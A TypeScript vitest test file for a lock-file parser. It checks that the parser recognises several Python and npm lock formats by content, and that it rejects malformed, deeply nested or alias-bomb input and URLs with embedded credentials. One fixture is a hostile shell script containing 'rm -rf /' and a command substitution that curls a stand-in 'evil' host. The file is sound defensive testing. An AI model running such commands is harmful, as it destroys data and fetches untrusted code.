import { readFileSync } from "node:fs";
import { expect, it } from "vitest";
import { AppError } from "#lib/domain/errors.ts";
import { readLockFile } from "./read-lock-file.ts";

const HEX = "ab".repeat(32);
const read = (text: string, name = "whatever.bin") => readLockFile(name, text, "/locks/0");

it.each([
  ["requirements", `numpy==2.1.0 --hash=sha256:${HEX}\n`],
  ["conda", "name: m\nchannels:\n- defaults\ndependencies:\n- python=3.11\n- pip:\n  - numpy==2.1.0\n"],
  ["conda", `version: 1\nmetadata:\n  platforms: [linux-64]\npackage:\n- name: numpy\n  version: 2.1.0\n  manager: conda\n  hash:\n    sha256: ${HEX}\n`],
  ["poetry", `[[package]]\nname = "numpy"\nversion = "2.1.0"\nfiles = [\n  {file = "n.whl", hash = "sha256:${HEX}"},\n]\n\n[metadata]\nlock-version = "2.0"\ncontent-hash = "x"\n`],
  ["uv", `version = 1\nrequires-python = ">=3.11"\n\n[[package]]\nname = "numpy"\nversion = "2.1.0"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "https://x/n.whl", hash = "sha256:${HEX}" }]\n`],
  ["pylock", `lock-version = "1.0"\ncreated-by = "pip"\n\n[[packages]]\nname = "numpy"\nversion = "2.1.0"\n`],
  ["pipenv", JSON.stringify({ _meta: { hash: {} }, default: { numpy: { version: "==2.1.0", hashes: [`sha256:${HEX}`] } }, develop: {} })],
  ["npm", JSON.stringify({ lockfileVersion: 3, packages: { "node_modules/a": { version: "1.0.0" } } })],
])("tells %s by its content, whatever the file is called", (kind, text) => {
  expect(read(text).kind).toBe(kind);
});

it("reads the lock file of this very repository", () => {
  const lock = read(readFileSync("package-lock.json", "utf8"), "package-lock.json");
  expect(lock.packages.length).toBeGreaterThan(100);
  expect(lock.packages.every(({ version }) => version !== null)).toBe(true);
});

const deep = (open: string, close: string): string => open.repeat(200_000) + close.repeat(200_000);

it.each([
  ["binary", "PK\u0003\u0004\0\0"],
  ["half a JSON document", `{"lockfileVersion": 3, "packages": {`],
  ["another JSON document", `{"a": 1}`],
  ["an endless nesting of JSON", `{"lockfileVersion": 3, "packages": ${deep("[", "]")}}`],
  ["an endless nesting of TOML", `version = 1\n[[package]]\nname = ${deep("[", "]")}\n`],
  ["another TOML document", `[tool.poetry]\nname = "x"\n`],
  ["broken TOML", `[[package]]\nname = "x\nversion = 1\n`],
  ["aliases that would grow", "dependencies: &a [x]\nb: *a\n"],
  ["an endless nesting of YAML", `dependencies: ${"[".repeat(20_000)}`],
  ["a script", "#!/bin/sh\nrm -rf /\n$(curl evil)\n"],
])("refuses or names what it cannot use, in words: %s", (_what, text) => {
  try {
    // A line that is no requirement is kept as something that leads elsewhere.
    expect(read(text).packages).toEqual([]);
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe("invalid_input");
  }
});

it.each([
  "--index-url https://me:secret@pypi.example.com/simple\nnumpy==1\n",
  "mine @ git+https://ghp_token@github.com/x/y.git@main\n",
  JSON.stringify({ lockfileVersion: 3, packages: { "node_modules/a": { version: "1.0.0", resolved: "https://user:pw@npm.example.com/a.tgz" } } }),
])("refuses credentials and does not repeat them: %s", (text) => {
  const refused = (): unknown => read(text);
  expect(refused).toThrow(/carries a user name or a token/);
  expect(refused).not.toThrow(/secret|ghp_token|:pw/);
});

it("takes the user git of a repository for no secret", () => {
  expect(read("mine @ git+ssh://git@github.com/x/y.git@0123456789abcdef0123456789abcdef01234567\n").packages).toHaveLength(1);
});
